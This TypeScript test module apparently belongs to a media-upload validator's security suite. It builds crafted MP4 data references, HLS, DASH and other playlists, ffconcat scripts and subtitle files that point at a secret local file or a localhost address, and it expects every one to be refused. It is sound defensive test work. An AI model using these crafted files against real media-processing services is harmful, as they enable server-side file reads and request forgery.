/** Files that lead elsewhere. */
import { box, fileType, u32 } from './forge.ts';
import { type HostileFile, refused, type Surroundings } from './hostile-file.ts';

/** Files that name others, or addresses, to be read in their place. */
export function references(clip: Buffer, around: Surroundings): HostileFile[] {
  return [...movies(clip, around), ...playlists(around), ...scripts(around)];
}

function movies(clip: Buffer, { secretPath, port }: Surroundings): HostileFile[] {
  const http = `http://127.0.0.1:${port}/video.ts`;
  const entry = (url: string): Buffer => Buffer.concat([u32(0, 1), box('url ', u32(0), Buffer.from(`${url}\0`))]);
  const reference = (url: string): Buffer =>
    box(
      'moov',
      box('rmra', box('rmda', box('rdrf', u32(0), Buffer.from('url '), u32(url.length + 1), Buffer.from(`${url}\0`)))),
    );
  const outside = (url: string): Buffer => {
    // The first track's pictures lie elsewhere: its data reference is rewritten, the offsets after it are not cared for.
    const at = clip.indexOf('dref') - 4;
    const end = at + clip.readUInt32BE(at);
    return Buffer.concat([clip.subarray(0, at), box('dref', entry(url)), clip.subarray(end)]);
  };
  return [
    refused('a movie that refers to a stream', Buffer.concat([fileType, reference(`rtsp://127.0.0.1:${port}/`)])),
    refused('a movie that refers to a file', Buffer.concat([fileType, reference(`file://${secretPath}`)])),
    refused('tracks in another file', outside(`file://${secretPath}`)),
    refused('tracks at another address', outside(http)),
    refused('tracks in a text', outside(`data:video/mp4;base64,${clip.subarray(0, 200).toString('base64')}`)),
    refused('tracks in several files', outside(`concat:${secretPath}|${secretPath}`)),
    refused('tracks in an alias', aliased(clip, secretPath)),
  ];
}

/** Lists of other files, whatever stands before them. */
function playlists({ secretPath, port }: Surroundings): HostileFile[] {
  const http = `http://127.0.0.1:${port}/video.ts`;
  const list = `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://${secretPath}\n#EXTINF:5,\n${http}\n#EXT-X-ENDLIST\n`;
  const tag = Buffer.from('ID3\x03\0\0\0\0\0\x0aTXXX\0\0\0\0\0\0', 'latin1');
  return [
    refused(
      'a playlist of a file',
      `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://${secretPath}\n#EXT-X-ENDLIST\n`,
    ),
    refused('a playlist of a relative file', '#EXTM3U\n#EXTINF:5,\n../../../secret.txt\n#EXT-X-ENDLIST\n', 'a.m3u8'),
    refused('a playlist of an address', `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n${http}\n#EXT-X-ENDLIST\n`),
    refused(
      'a playlist of a concatenation',
      `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:${http}?|subfile,,start,0,end,64,,:${secretPath}\n#EXT-X-ENDLIST\n`,
    ),
    refused('a master playlist', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${http}\n`),
    refused(
      'a DASH manifest',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${http}</BaseURL></MPD>`,
    ),
    refused('an ASX list', `<asx version="3.0"><entry><ref href="${http}"/></entry></asx>`),
    refused('a reference of ASF', `[Reference]\nRef1=${http}\n`),
    refused('a playlist in a tag of a song', Buffer.concat([tag, Buffer.from(list)])),
    refused('a playlist behind the type of an MP4', Buffer.concat([fileType, Buffer.from(list)])),
    refused('a playlist in the data of an MP4', Buffer.concat([fileType, box('mdat', Buffer.from(list))])),
    refused('a playlist behind the marks of MPEG-TS', Buffer.concat([Buffer.alloc(188 * 5, 'G'), Buffer.from(list)])),
    refused(
      'a playlist with a key and a map',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}"\n#EXT-X-MAP:URI="file://${secretPath}"\n#EXTINF:1,\ncrypto:file://${secretPath}\n`,
    ),
    refused('a playlist of a pipe and a text', '#EXTM3U\n#EXTINF:1,\npipe:0\n#EXTINF:1,\ndata:video/mp4;base64,AAAA\n'),
    refused('a list of Winamp', `[playlist]\nNumberOfEntries=1\nFile1=${http}\n`),
    refused(
      'an XSPF list',
      `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${http}</location></track></trackList></playlist>`,
    ),
  ];
}

/** Texts that a program of media carries out, or shows. */
function scripts({ secretPath, port }: Surroundings): HostileFile[] {
  const http = `http://127.0.0.1:${port}/video.ts`;
  return [
    refused('a script of files', `ffconcat version 1.0\nfile '${secretPath}'\nfile '${http}'\n`),
    refused(
      'a session description',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\n`,
    ),
    refused('an SVG', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}"/><script>1</script></svg>`),
    refused(
      'a script with options',
      `ffconcat version 1.0\nfile 'subfile,,start,0,end,0,,:${secretPath}'\noption protocol_whitelist file,http\n`,
    ),
    refused('a script of AviSynth', `AVISource("${secretPath}")\n`),
    refused('a cue sheet', `FILE "${secretPath}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
    refused('metadata of ffmpeg', `;FFMETADATA1\ntitle=x\n[STREAM]\nfile=${secretPath}\n`),
    refused('SubRip', '1\n00:00:00,000 --> 00:00:01,000\n<font face="http://127.0.0.1">x</font>\n'),
    refused('WebVTT', `WEBVTT\n\nSTYLE\n::cue { background: url(${http}) }\n\n00:00.000 --> 00:01.000\nx\n`),
    refused(
      'SubStation Alpha',
      `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${secretPath}\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,x\n`,
    ),
    refused(
      'an index of VobSub',
      `# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n`,
    ),
  ];
}

/** The first track's pictures lie in a file that an alias of the Macintosh names (QuickTime File Format, "Data references"). */
function aliased(clip: Buffer, path: string): Buffer {
  const name = Buffer.from(`${path}\0`);
  const record = Buffer.concat([
    Buffer.alloc(150),
    u32(0x0012_0000 | name.length),
    name,
    Buffer.from([0xff, 0xff, 0, 0]),
  ]);
  const at = clip.indexOf('dref') - 4;
  const end = at + clip.readUInt32BE(at);
  const entry = box('dref', u32(0, 1), box('alis', u32(0), record));
  return Buffer.concat([clip.subarray(0, at), entry, clip.subarray(end)]);
}
